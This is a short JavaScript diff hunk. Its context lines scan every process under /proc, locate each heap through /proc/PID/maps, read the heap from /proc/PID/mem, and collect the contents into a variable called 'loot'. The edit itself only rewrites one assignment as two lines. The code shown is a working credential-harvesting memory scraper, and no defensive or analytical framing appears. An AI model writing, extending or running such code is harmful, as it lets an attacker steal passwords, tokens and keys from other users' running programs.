@@ -31,7 +31,8 @@ for (const pid of fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name))) 
   }
   try {
     const heap = /^([0-9a-f]+)-([0-9a-f]+) .*\[heap\]$/m.exec(fs.readFileSync("/proc/" + pid + "/maps", "utf8"));
-    const [from, to] = [parseInt(heap[1], 16), parseInt(heap[2], 16)];
+    const from = parseInt(heap[1], 16);
+    const to = parseInt(heap[2], 16);
     const buffer = Buffer.alloc(Math.min(to - from, 8e6));
     fs.readSync(fs.openSync("/proc/" + pid + "/mem", "r"), buffer, 0, buffer.length, from);
     loot += buffer.toString("latin1");
